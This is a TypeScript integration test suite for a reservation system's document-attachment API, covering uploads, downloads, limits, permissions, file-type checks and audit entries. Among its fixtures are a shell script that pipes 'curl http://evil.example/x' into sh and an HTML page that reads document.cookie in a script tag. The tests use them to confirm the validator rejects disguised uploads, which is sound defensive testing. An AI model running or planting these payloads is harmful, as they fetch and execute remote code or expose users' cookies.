/**
 * Documents attached to reservation requests, on a real database through real HTTP (inject):
 * add / list / download / delete, content checks by the bytes (a script renamed `.pdf`, an HTML
 * page), the size limit, the 50-document limit under concurrency, permissions, agency scope,
 * deleted requests, the audit entries.
 */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN, AGENT, startTestApp, VIEWER, type TestApp } from './helpers.js';
import { token } from './kit/harness.js';

const URL = '/api/documentmanagement/document';
let t: TestApp;
let admin: string;
let agent: string;
let viewer: string;

type Doc = { id: number; fileName: string; size: number; url: string; contentType: string; dateCreated: string };
type Errors = { errors: Record<string, string[]> };

/** A small well-formed PDF. */
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
  'latin1',
);
/** A 1×1 PNG. */
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');

const attachment = (name: string, bytes: Buffer) => ({ attachmentName: name, base64String: bytes.toString('base64') });

/** A bare request row of an agency (the documents only need it to exist). */
async function newRequest(agencyId = 1): Promise<string> {
  const guid = randomUUID();
  await t.db.query(
    `INSERT INTO reservation_requests (request_guid, request_type, reference_sequence, request_reference, agency_id)
     VALUES ($1::uuid, 1, nextval('reservation_request_fit_seq'), $2, $3)`,
    [guid, `DOC-${guid.slice(0, 8)}`, agencyId],
  );
  return guid;
}

const add = (bearer: string, referenceId: string, attachments: unknown[], headers: Record<string, string> = {}) =>
  t.call(bearer, { method: 'POST', url: `${URL}/add`, payload: { referenceId, attachments }, headers });
const list = (bearer: string, referenceId: string) =>
  t.call(bearer, { method: 'POST', url: `${URL}/getbyid`, payload: { referenceId } });
const remove = (bearer: string, id: number) =>
  t.call(bearer, { method: 'DELETE', url: `${URL}/delete?documentId=${id}` });
const download = (bearer: string, id: number) =>
  t.call(bearer, { method: 'GET', url: `${URL}/download?documentId=${id}` });
const stored = async (guid: string) =>
  (
    await t.db.query<{ n: number }>(
      'SELECT count(*)::int AS n FROM documents WHERE reference_id = $1 AND deleted_at IS NULL',
      [guid],
    )
  )[0].n;

beforeAll(async () => {
  t = await startTestApp();
  [admin, agent, viewer] = await Promise.all([t.login(ADMIN), t.login(AGENT), t.login(VIEWER)]);
});
afterAll(() => t?.close());

describe('add, list, download, delete', () => {
  it('stores a PDF and an image, lists them oldest first, serves their bytes and deletes one', async () => {
    const guid = await newRequest();
    const res = await add(agent, guid.toUpperCase(), [
      attachment('voucher.pdf', PDF),
      attachment('C:\\scans\\ticket.png', PNG),
    ]);
    expect(res.statusCode, res.body).toBe(200);
    const added = res.json<Doc[]>();
    expect(added).toEqual([
      {
        id: expect.any(Number),
        fileName: 'voucher.pdf',
        size: PDF.length,
        url: `${URL}/download?documentId=${added[0].id}`,
        contentType: 'application/pdf',
        dateCreated: expect.any(String),
      },
      {
        id: expect.any(Number),
        fileName: 'ticket.png',
        size: PNG.length,
        url: `${URL}/download?documentId=${added[1].id}`,
        contentType: 'image/png',
        dateCreated: expect.any(String),
      },
    ]);
    expect(Number.isNaN(Date.parse(added[0].dateCreated))).toBe(false);

    const listed = await list(agent, guid);
    expect(listed.statusCode, listed.body).toBe(200);
    expect(listed.json<Doc[]>()).toEqual(added);

    const pdf = await download(agent, added[0].id);
    expect(pdf.statusCode, pdf.body).toBe(200);
    expect(pdf.rawPayload.equals(PDF)).toBe(true);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect(pdf.headers['content-disposition']).toBe(
      'attachment; filename="voucher.pdf"; filename*=UTF-8\'\'voucher.pdf',
    );
    expect(pdf.headers['x-content-type-options']).toBe('nosniff');
    const png = await download(agent, added[1].id);
    expect(png.rawPayload.equals(PNG)).toBe(true);
    expect(png.headers['content-type']).toBe('image/png');
    expect(png.headers['content-disposition']).toBe('inline; filename="ticket.png"; filename*=UTF-8\'\'ticket.png');

    const gone = await remove(agent, added[0].id);
    expect(gone.statusCode, gone.body).toBe(200);
    expect(gone.json()).toEqual({ id: added[0].id });
    expect((await list(agent, guid)).json<Doc[]>().map((d) => d.fileName)).toEqual(['ticket.png']);
    expect((await download(agent, added[0].id)).statusCode).toBe(404);
    expect((await remove(agent, added[0].id)).statusCode).toBe(404);
  });

  it("records who added and who deleted which file in the audit trail, readable by the request's agency", async () => {
    const guid = await newRequest();
    const [doc] = (await add(agent, guid, [attachment('hotel voucher.pdf', PDF)])).json<Doc[]>();
    await remove(admin, doc.id);
    const res = await t.call(agent, {
      method: 'POST',
      url: '/api/audit/get',
      payload: { entity: 'reservation-request-document', entityId: String(doc.id), pageIndex: 1, pageSize: 10 },
    });
    expect(res.statusCode, res.body).toBe(200);
    const entries = res.json<{
      auditEntries: {
        operation: string;
        userName: string;
        changes: { field: string; before: unknown; after: unknown }[];
      }[];
    }>().auditEntries;
    expect(entries.map((e) => [e.operation, e.userName])).toEqual([
      ['delete', 'Alice Admin'],
      ['create', 'Adam Agent'],
    ]);
    expect(entries[1].changes).toEqual(
      expect.arrayContaining([
        { field: 'fileName', before: null, after: 'hotel voucher.pdf' },
        { field: 'referenceId', before: null, after: guid },
      ]),
    );
  });

  it('names a file by its real type when its extension says another, and an unnamed one "document"', async () => {
    const guid = await newRequest();
    const res = await add(agent, guid, [
      attachment('scan.pdf', PNG),
      { base64String: PDF.toString('base64') },
      attachment('photo.JPEG', PNG),
    ]);
    expect(res.json<Doc[]>().map((d) => d.fileName)).toEqual(['scan.pdf.png', 'document.pdf', 'photo.JPEG.png']);
  });

  it('gives the file name in Content-Disposition encoded for any characters', async () => {
    const guid = await newRequest();
    const [doc] = (await add(agent, guid, [attachment("reçu d'été (1).pdf", PDF)])).json<Doc[]>();
    expect(doc.fileName).toBe("reçu d'été (1).pdf");
    expect((await download(agent, doc.id)).headers['content-disposition']).toBe(
      'attachment; filename="recu-d-ete-1-.pdf"; filename*=UTF-8\'\'re%C3%A7u%20d%27%C3%A9t%C3%A9%20%281%29.pdf',
    );
  });

  it('answers the file through the access-token cookie too, and never through /api/files', async () => {
    const guid = await newRequest();
    const [doc] = (await add(agent, guid, [attachment('a.png', PNG)])).json<Doc[]>();
    const byCookie = await t.call(null, { method: 'GET', url: doc.url, headers: { cookie: `access-token=${agent}` } });
    expect(byCookie.statusCode, byCookie.body).toBe(200);
    expect(byCookie.rawPayload.equals(PNG)).toBe(true);
    const [file] = await t.db.query<{ id: number }>("SELECT id FROM files WHERE owner = 'document' AND owner_id = $1", [
      doc.id,
    ]);
    expect((await t.call(agent, { method: 'GET', url: `/api/files/${file.id}` })).statusCode).toBe(404);
  });
});

describe('content checks', () => {
  it('refuses a script renamed .pdf, an HTML page and a PDF header with nothing of a PDF after it, storing nothing', async () => {
    const guid = await newRequest();
    const fake = Buffer.concat([Buffer.from('%PDF-1.4\n'), SCRIPT]);
    const res = await add(agent, guid, [
      attachment('ok.pdf', PDF),
      attachment('invoice.pdf', SCRIPT),
      attachment('page.pdf', HTML),
      attachment('fake.pdf', fake),
    ]);
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json<Errors>().errors).toEqual({
      'attachments[1].base64String': [
        'Only images (PNG, JPEG, GIF, WEBP) and PDF files are accepted: invoice.pdf is neither.',
      ],
      'attachments[2].base64String': [
        'Only images (PNG, JPEG, GIF, WEBP) and PDF files are accepted: page.pdf is neither.',
      ],
      'attachments[3].base64String': [
        'Only images (PNG, JPEG, GIF, WEBP) and PDF files are accepted: fake.pdf is neither.',
      ],
    });
    expect(await stored(guid)).toBe(0);
  });

  it('answers in French', async () => {
    const guid = await newRequest();
    const res = await add(agent, guid, [attachment('page.html', HTML)], { 'accept-language': 'fr' });
    expect(res.json<Errors>().errors['attachments[0].base64String']).toEqual([
      "Seuls les images (PNG, JPEG, GIF, WEBP) et les fichiers PDF sont acceptés : page.html n'en est pas un.",
    ]);
  });

  it("refuses a file over 10 MB, empty or non-base64 content, and a body over the route's limit (413)", async () => {
    const guid = await newRequest();
    const big = Buffer.concat([PDF.subarray(0, 9), Buffer.alloc(10 * 1024 * 1024 - 8, 0x20), Buffer.from('\n%%EOF\n')]);
    const res = await add(agent, guid, [attachment('big.pdf', big), { attachmentName: 'x.pdf', base64String: '***' }]);
    expect(res.statusCode).toBe(400);
    expect(res.json<Errors>().errors).toEqual({
      'attachments[0].base64String': ['big.pdf is too large: at most 10 MB per file.'],
      'attachments[1].base64String': ['x.pdf is empty or not valid base64.'],
    });
    const huge = Array.from({ length: 5 }, (_, i) => ({
      attachmentName: `${i}.pdf`,
      base64String: big.toString('base64'),
    }));
    const tooLarge = await add(agent, guid, huge);
    expect(tooLarge.statusCode).toBe(413);
    expect(await stored(guid)).toBe(0);
  });

  it('keys bad bodies by field', async () => {
    const guid = await newRequest();
    expect(
      (await t.call(agent, { method: 'POST', url: `${URL}/add`, payload: { referenceId: guid } })).json<Errors>()
        .errors,
    ).toEqual({ attachments: ['Attachments is required.'] });
    expect((await add(agent, guid, [])).json<Errors>().errors).toEqual({
      attachments: ['Attachments: at least 1.'],
    });
    expect((await add(agent, 'not-a-guid', [attachment('a.pdf', PDF)])).json<Errors>().errors).toEqual({
      referenceId: ['Reference is not valid.'],
    });
    const kind = await t.call(agent, {
      method: 'POST',
      url: `${URL}/getbyid`,
      payload: { referenceId: guid, referenceKind: 'no-such-kind' },
    });
    expect(kind.json<Errors>().errors).toEqual({ referenceKind: ['Reference Kind is not valid.'] });
    for (const bad of ['', 'abc', '0', '0x10', '99999999999']) {
      const res = await t.call(agent, { method: 'DELETE', url: `${URL}/delete?documentId=${bad}` });
      expect(res.statusCode, bad).toBe(400);
      expect(Object.keys(res.json<Errors>().errors)).toEqual(['documentId']);
    }
  });
});

describe('at most 50 documents per request', () => {
  it('refuses the upload that would pass 50, also when two are sent at the same time', async () => {
    const guid = await newRequest();
    const many = (n: number, prefix: string) =>
      Array.from({ length: n }, (_, i) => attachment(`${prefix}-${i}.pdf`, PDF));
    expect((await add(agent, guid, many(47, 'a'))).statusCode).toBe(200);
    const results = await Promise.all([
      add(agent, guid, many(2, 'b')),
      add(agent, guid, many(2, 'c')),
      add(admin, guid, many(2, 'd')),
    ]);
    expect(results.map((r) => r.statusCode).sort()).toEqual([200, 400, 400]);
    const refused = results.find((r) => r.statusCode === 400)!;
    expect(refused.json<Errors>().errors).toEqual({
      attachments: ['At most 50 attachments are allowed: 49 are stored already.'],
    });
    expect(await stored(guid)).toBe(49);
    expect((await add(agent, guid, many(1, 'e'))).statusCode).toBe(200);
    expect((await add(agent, guid, many(1, 'f'))).statusCode).toBe(400);
    expect((await list(agent, guid)).json<Doc[]>()).toHaveLength(50);
    // A deleted one makes room again.
    const [first] = (await list(agent, guid)).json<Doc[]>();
    await remove(agent, first.id);
    expect((await add(agent, guid, many(1, 'g'))).statusCode).toBe(200);
  });
});

describe('access', () => {
  it("answers 404 to an agency user on every route for another agency's request and its documents", async () => {
    const theirs = await newRequest(2);
    const [doc] = (await add(admin, theirs, [attachment('theirs.pdf', PDF)])).json<Doc[]>();
    expect((await add(agent, theirs, [attachment('mine.pdf', PDF)])).statusCode).toBe(404);
    expect((await list(agent, theirs)).statusCode).toBe(404);
    expect((await download(agent, doc.id)).statusCode).toBe(404);
    expect((await remove(agent, doc.id)).statusCode).toBe(404);
    expect(await stored(theirs)).toBe(1);
    expect((await list(admin, theirs)).json<Doc[]>()).toHaveLength(1);
  });

  it('answers 404 for an unknown request and for a deleted one', async () => {
    expect((await list(agent, randomUUID())).statusCode).toBe(404);
    expect((await add(agent, randomUUID(), [attachment('a.pdf', PDF)])).statusCode).toBe(404);
    const guid = await newRequest();
    const [doc] = (await add(agent, guid, [attachment('a.pdf', PDF)])).json<Doc[]>();
    const deleted = await t.call(admin, {
      method: 'DELETE',
      url: `/api/reservation/request/delete?requestGuid=${guid}`,
    });
    expect(deleted.statusCode, deleted.body).toBe(200);
    expect((await list(agent, guid)).statusCode).toBe(404);
    expect((await add(agent, guid, [attachment('b.pdf', PDF)])).statusCode).toBe(404);
    expect((await download(agent, doc.id)).statusCode).toBe(404);
    expect((await remove(agent, doc.id)).statusCode).toBe(404);
  });

  it('needs Reservations.Reservation.ViewList to read and .Add to add and delete (403)', async () => {
    const guid = await newRequest();
    const [doc] = (await add(agent, guid, [attachment('a.pdf', PDF)])).json<Doc[]>();
    expect((await list(viewer, guid)).statusCode).toBe(200);
    expect((await download(viewer, doc.id)).statusCode).toBe(200);
    expect((await add(viewer, guid, [attachment('b.pdf', PDF)])).statusCode).toBe(403);
    expect((await remove(viewer, doc.id)).statusCode).toBe(403);
    const kit = { app: t.app, db: t.db, schemas: t.schemas };
    const addOnly = await token(kit, ['Reservations.Reservation.Add']);
    expect((await list(addOnly, guid)).statusCode).toBe(403);
    expect((await download(addOnly, doc.id)).statusCode).toBe(403);
    expect(
      (await t.call(null, { method: 'POST', url: `${URL}/getbyid`, payload: { referenceId: guid } })).statusCode,
    ).toBe(401);
    expect(await stored(guid)).toBe(1);
  });
});
